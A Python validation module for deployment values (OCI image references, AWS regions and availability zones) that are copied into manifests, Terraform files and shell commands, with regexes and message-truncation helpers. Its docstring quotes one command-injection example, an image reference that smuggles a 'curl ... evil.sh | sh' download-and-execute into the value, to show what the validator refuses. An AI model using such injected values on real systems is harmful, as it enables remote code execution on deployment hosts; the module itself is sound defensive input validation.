"""Grammars of the deployment values that end up in manifests, Terraform and shell commands.

An image reference or a zone is copied into Kubernetes manifests, Terraform files and the
`kubectl`/`terraform` command lines of `hftc deploy`; `registry.example/x:1;curl${IFS}evil.sh|sh`
must be refused where it enters, with a message that does not echo a 5 MB value back.
"""

from __future__ import annotations

import re

MAX_SHOWN = 60

# OCI distribution reference grammar (github.com/distribution/reference, regexp.go):
#   reference := name [ ":" tag ] [ "@" digest ]
#   name      := [domain "/"] remote-name
_ALNUM = r"[a-z0-9]+"
_SEPARATOR = r"(?:[._]|__|[-]+)"
_PATH_COMPONENT = f"{_ALNUM}(?:{_SEPARATOR}{_ALNUM})*"
_DOMAIN_COMPONENT = r"(?:[a-zA-Z0-9]|[a-zA-Z0-9][a-zA-Z0-9-]*[a-zA-Z0-9])"
_DOMAIN = rf"(?:{_DOMAIN_COMPONENT}(?:\.{_DOMAIN_COMPONENT})*|\[[0-9a-fA-F:]+\])(?::[0-9]+)?"
_TAG = r"[\w][\w.-]{0,127}"
_DIGEST = r"[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9a-fA-F]{32,}"
_REFERENCE = re.compile(rf"(?:{_DOMAIN}/)?{_PATH_COMPONENT}(?:/{_PATH_COMPONENT})*(?::{_TAG})?(?:@{_DIGEST})?",
                        re.ASCII)
MAX_REFERENCE = 255  # the name part may not exceed 255 characters

# AWS: us-east-1, eu-central-2, us-gov-west-1, ap-southeast-4; zones add a letter
# (us-east-1a) or name a Local Zone (us-east-1-bos-1a) or Wavelength Zone (us-east-1-wl1-bos-wlz-1).
_REGION = re.compile(r"[a-z]{2}(?:-gov|-iso[a-z]?)?-[a-z]+-\d{1,2}", re.ASCII)
_ZONE_SUFFIX = re.compile(r"[a-z]|(?:-[a-z0-9]+){1,4}", re.ASCII)


def shown(value: str) -> str:
    """A value as quoted in a message: cut, control characters made visible."""
    text = value if len(value) <= MAX_SHOWN else value[:MAX_SHOWN] + f"... ({len(value)} characters)"
    return text.encode("unicode_escape").decode("ascii")


def image_problem(value: str) -> str | None:
    """Why `value` is not an OCI image reference, or None."""
    if len(value) > MAX_REFERENCE + 200 or _REFERENCE.fullmatch(value) is None:
        return ("not an OCI image reference: `[registry[:port]/]name[:tag][@sha256:digest]` with lowercase "
                "name components; no spaces, `;`, `$`, `|` or quotes")
    name = value.split("@", 1)[0]
    head, colon, tag = name.rpartition(":")
    if colon and "/" not in tag:  # a tag, not a registry port
        name = head
    if len(name) > MAX_REFERENCE:
        return f"the image name is longer than {MAX_REFERENCE} characters"
    return None


def region_problem(value: str) -> str | None:
    if _REGION.fullmatch(value) is None:
        return "not an AWS region like `us-east-1`"
    return None


def zone_problem(value: str, region: str | None) -> str | None:
    """Why `value` is not an availability zone (of `region`, when given), or None."""
    base = _REGION.match(value)
    if base is None or _ZONE_SUFFIX.fullmatch(value[base.end():]) is None:
        return "not an AWS availability zone like `us-east-1a`"
    if region is not None and base.group(0) != region:
        return f"the zone is not in region `{region}`"
    return None


def shown_line(text: str, limit: int = 200) -> str:
    """A request line as echoed in a warning: at most `limit` characters."""
    return text if len(text) <= limit else text[:limit] + f"... ({len(text)} characters)"
